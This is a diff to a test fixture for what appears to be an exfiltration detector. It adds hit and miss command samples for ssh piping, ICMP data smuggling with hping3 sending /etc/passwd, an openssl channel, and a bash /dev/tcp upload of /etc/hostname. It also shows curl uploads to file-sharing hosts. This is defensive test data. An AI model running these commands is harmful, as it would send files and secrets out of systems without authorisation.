@@ -36,4 +36,27 @@ export const exfiltration: Triggers = {
     hits: ['curl -F file=@x https://0x0.st', 'curl --upload-file x https://transfer.sh/x'],
     misses: ['curl https://transfer.sh/x', 'curl -F file=@x https://example.org'],
   },
+  'exfiltration/pipe-to-ssh': {
+    hits: [
+      ['ssh', 'a@192.0.2.7', 'cat > /x.tar.gz'],
+      ['ssh', 'a@192.0.2.7', 'tar xzf -'],
+    ],
+    misses: [['ssh', 'a@192.0.2.7', 'cat /etc/hostname']],
+  },
+  'exfiltration/ping-with-data': {
+    hits: ['ping -c 1 -p 6869 192.0.2.7', 'hping3 --icmp --file /etc/passwd 192.0.2.7'],
+    misses: ['ping -c 1 192.0.2.7'],
+  },
+  'exfiltration/channel-of-openssl': {
+    hits: ['openssl s_client -quiet -connect 192.0.2.7:443'],
+    misses: ['openssl s_client -connect 192.0.2.7:443'],
+  },
+  'exfiltration/data-sent-by-file-tool': {
+    hits: [
+      {
+        sh: 'unshare -n sh -c "ip link set lo up; ip address add 192.0.2.7/32 dev lo; timeout 3 python3 -c \\"import socket; s = socket.socket(); s.bind((str(), 9001)); s.listen(); c = s.accept()[0].recv(9)\\" & until timeout 2 bash -c \\"exec 3<>/dev/tcp/192.0.2.7/9001; cat /etc/hostname >&3\\" 2> /dev/null; do :; done; wait"',
+      },
+    ],
+    misses: [{ sh: 'bash -c "echo > /dev/tcp/127.0.0.1/9001" 2> /dev/null; true' }],
+  },
 }
